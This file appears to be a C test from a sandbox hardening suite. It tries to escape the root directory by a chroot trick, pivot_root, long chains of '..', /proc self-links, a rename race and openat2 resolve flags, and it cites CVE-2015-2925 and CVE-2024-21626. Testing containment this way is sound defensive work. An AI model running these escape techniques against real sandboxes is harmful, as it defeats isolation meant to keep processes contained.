// attack: leaving the root directory
// tries: The old chroot escape (chroot into a directory while the working directory stays outside), pivot_root to itself, 4,096 times "..", descriptors of
//   directories that move while they are walked (a race of rename against "..", 20,000 rounds), openat2 with each resolve flag, magic links.
// source: chroot-break of 1999; CVE-2015-2925 (double chroot by rename); CVE-2024-21626 (working directory outside)
// expect: ".." of the root is the root; chroot and pivot_root are refused; every walk ends inside
// stopped-by: mount_namespace, seccomp
// without: seccomp landlock
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static volatile int stop;

static void *swap(void *unused) {
    (void)unused;
    while (!stop) rename("/tmp/r/a/b", "/tmp/r/b"), rename("/tmp/r/b", "/tmp/r/a/b");
    return 0;
}

static struct stat root;

static int outside(const char *how) {
    struct stat here;
    char path[4200];
    if (stat(".", &here)) return 0;
    if ((here.st_ino != root.st_ino || here.st_dev != root.st_dev) && syscall(SYS_getcwd, path, sizeof path) > 0 && path[0] != '/')
        return printf("broke: %s: the working directory is %s\n", how, path), 99;
    return 0;
}

int main(void) {
    int r;
    char path[4200] = "";
    stat("/", &root);
    if (syscall(SYS_getcwd, path, sizeof path) < 0 || path[0] != '/') return printf("broke: it begins outside: %s\n", path), 99;
    mkdir("/tmp/r", 0700), mkdir("/tmp/r/a", 0700), mkdir("/tmp/r/a/b", 0700), mkdir("/tmp/r/a/b/c", 0700);
    int before = open("/", O_PATH | O_DIRECTORY), made = unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0;
    if (chdir("/tmp/r") == 0 && (chroot("/tmp/r/a") == 0 || syscall(SYS_chroot | 0x40000000, "/tmp/r/a") == 0)) {
        for (int i = 0; i < 100; i++) if (chdir("..")) break;
        struct stat here;
        stat(".", &here);
        return printf("broke: chroot works%s, and out of it: %s\n", made ? " in a user namespace of its own" : "", here.st_ino == root.st_ino ? "yes" : "no"), 99;
    }
    const char *roots[] = {".", "/", "/tmp", "/tmp/r", "/usr", "/proc/self/root", "/proc/self/cwd"};
    for (int i = 0; i < 7; i++)
        for (int j = 0; j < 7; j++)
            if (syscall(SYS_pivot_root, roots[i], roots[j]) == 0) return printf("broke: pivot_root(%s, %s)\n", roots[i], roots[j]), 99;
    if (syscall(SYS_pivot_root, "/tmp", "/tmp") == 0 || errno != EPERM) return printf("broke: pivot_root answers: errno %d\n", errno), 99;
    // Up and up.
    fchdir(before);
    for (int i = 0; i < 4096; i++)
        if (chdir("..") || (r = outside("one .. after another"))) return r ? r : 1;
    memset(path, 0, sizeof path);
    for (int i = 0; i < 1300; i++) strcat(path, "../");
    struct stat up;
    if (stat(path, &up) || up.st_ino != root.st_ino || up.st_dev != root.st_dev) return printf("broke: 1,300 .. lead elsewhere\n"), 99;
    const char *walks[] = {"/proc/self/root/../../..", "/proc/self/cwd/../../../../..", "/proc/thread-self/root/..", "/dev/fd/3/../..", "/proc/self/fd/../root/.."};
    for (int i = 0; i < 5; i++)
        if (stat(walks[i], &up) == 0 && (up.st_ino != root.st_ino || up.st_dev != root.st_dev) && !strstr(walks[i], "fd")) return printf("broke: %s leads elsewhere\n", walks[i]), 99;
    pthread_t thread;
    if (pthread_create(&thread, 0, swap, 0)) return printf("unclear: no thread\n"), 1;
    for (int i = 0; i < 20000; i++) {
        if (chdir("/tmp/r/a/b/c") && chdir("/tmp/r/b/c")) continue;
        for (int j = 0; j < 8; j++) {
            if (chdir("..")) break;
            if ((r = outside("a rename meanwhile"))) return r;
        }
        if (stat(".", &up) == 0 && (up.st_ino != root.st_ino || up.st_dev != root.st_dev)) return printf("broke: the race leads elsewhere\n"), 99;
    }
    stop = 1;
    pthread_join(thread, 0);
    for (unsigned long resolve = 0; resolve < 64; resolve++) {
        struct { unsigned long flags, mode, resolve; } how = {O_PATH | O_DIRECTORY, 0, resolve};
        const char *up_there[] = {"..", "../..", "../../etc", "/..", "/proc/self/root/.."};
        for (int i = 0; i < 5; i++) {
            int fd = syscall(437, before, up_there[i], &how, sizeof how);
            if (fd >= 0 && fstat(fd, &up) == 0 && i != 2 && (up.st_ino != root.st_ino || up.st_dev != root.st_dev)) return printf("broke: openat2(%s, %#lx)\n", up_there[i], resolve), 99;
            if (fd >= 0) close(fd);
        }
    }
    printf("held: 4,096 .., 20,000 races, 320 walks by openat2\n");
    return 0;
}
